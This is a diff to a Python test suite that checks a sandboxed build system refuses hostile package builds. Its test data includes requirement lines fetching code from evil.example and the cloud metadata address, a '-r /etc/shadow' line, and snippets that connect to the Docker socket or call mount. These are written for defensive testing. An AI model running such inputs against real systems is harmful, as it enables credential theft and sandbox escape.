@@ -16,7 +16,8 @@ from domain.errors import UnsafeArchive
 from domain.workers import Built, Worker
 from tasks.tester import restore_platform_files
 from tests.blocks.egress_bench import Place
-from tests.hostile.attempts import TRY, shell
+from tests.blocks.outside import ADDRESS, METADATA, Outside
+from tests.hostile.attempts import REACHES, TRY, shell
 from tests.hostile.conftest import RUN, spec
 from tests.hostile.test_network import own_addresses
 
@@ -29,14 +30,14 @@ REQUIREMENTS = {
     "index on this machine": "--index-url http://{address}:{port}/simple\nevil",
     "another index": "--extra-index-url https://evil.example/simple\nslipway-hostile-no-such-package",
     "repository": "evil @ git+https://evil.example/evil.git",
-    "metadata address": "evil @ http://169.254.169.254/latest/meta-data/evil-1.0.tar.gz",
+    "metadata address": f"evil @ http://{METADATA}/latest/meta-data/evil-1.0.tar.gz",
     "file of the build": "-r /etc/shadow",
-    "raw IP address": "evil @ https://198.51.100.7/evil-1.0.tar.gz",
+    "raw IP address": f"evil @ https://{ADDRESS}/evil-1.0.tar.gz",
 }
 ATTEMPTS = {
     "service of this machine": "any_of(reach, *[(host, PORT) for host in HOSTS])",
-    "metadata": 'reach(("169.254.169.254", 80))',
-    "raw IP": 'reach(("198.51.100.7", 443))',
+    "metadata": f"reach(({METADATA!r}, 80))",
+    "raw IP": f"reach(({ADDRESS!r}, 443))",
     "app of another project": "reach(VICTIM)",
     "docker socket": 'socket.socket(socket.AF_UNIX).connect("/var/run/docker.sock")',
     "mount": 'c("mount", b"tmpfs", b"/mnt", b"tmpfs", 0, None)',
@@ -72,20 +73,30 @@ truncate -s 90M /app/huge
 
 
 class Hostile(NamedTuple):
-    """A candidate whose build tried everything, what it printed, and what a service of this machine heard of it."""
+    """A candidate whose build tried everything, what it printed, and what was heard of it elsewhere."""
 
     candidate: str
     log: str
     heard: list[bytes]
+    """By a service of this machine."""
+    outside: list[str]
+    """By what stands for the internet."""
 
 
 @pytest.fixture(scope="module")
-def hostile(engine: DockerEngine, tmp_path_factory: pytest.TempPathFactory, victim: tuple[str, int]) -> Hostile:
-    return asyncio.run(build(engine, tmp_path_factory.mktemp("hostile-build"), victim))
+def hostile(
+    engine: DockerEngine,
+    tmp_path_factory: pytest.TempPathFactory,
+    victim: tuple[str, int],
+    request: pytest.FixtureRequest,
+) -> Hostile:
+    world: Outside | None = request.getfixturevalue("world") if can_lock() else None
+    return asyncio.run(build(engine, tmp_path_factory.mktemp("hostile-build"), victim, world))
 
 
-async def build(engine: DockerEngine, source: Path, victim: tuple[str, int]) -> Hostile:
+async def build(engine: DockerEngine, source: Path, victim: tuple[str, int], world: Outside | None) -> Hostile:
     heard: list[bytes] = []
+    before = len(world.heard) if world else 0
 
     async def note(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
         heard.append(await reader.read(100))
@@ -95,7 +106,7 @@ async def build(engine: DockerEngine, source: Path, victim: tuple[str, int]) -> 
         write(source, server.sockets[0].getsockname()[1], victim)
         result = await engine.build(source, "evil", RUN, 120)
     assert isinstance(result, Built), result.log
-    return Hostile(result.candidate, result.log, heard)
+    return Hostile(result.candidate, result.log, heard, world.heard[before:] if world else [])
 
 
 def write(source: Path, port: int, victim: tuple[str, int]) -> None:
@@ -116,6 +127,25 @@ def test_requirement_from(hostile: Hostile, held: Held, name: str) -> None:
     assert f"refused requirements/{name.replace(' ', '-')}\n" in hostile.log
     assert "INSTALLED" not in hostile.log
     held("pip reaches the registries of the allow-list only")
+
+
+@docker
+@pytest.mark.parametrize("address", [METADATA, ADDRESS])
+async def test_address_in_a_requirement_is_refused_by_the_proxy(
+    place: Place, hostile: Hostile, held: Held, address: str
+) -> None:
+    asked = [passage for passage in await EgressReceipts(place.folder.home).of_run(RUN) if passage.host == address]
+    assert {passage.refused for passage in asked} == {"addresses are refused, use a name"}
+    held("addresses are refused, use a name")
+
+
+@docker
+@pytest.mark.parametrize(("address", "port"), [(METADATA, 80), (ADDRESS, 443)])
+async def test_outside_of_a_build_past_the_proxy(world: Outside, hostile: Hostile, held: Held, address: str, port: int) -> None:
+    """An ordinary container is answered at the addresses that the build tried."""
+    assert await world.asked(REACHES, address, str(port), "") == f"reached {address} b'the outside'\n"
+    assert hostile.outside == []
+    held("a build has the network of the run's workers, which leads nowhere")
 
 
 @docker
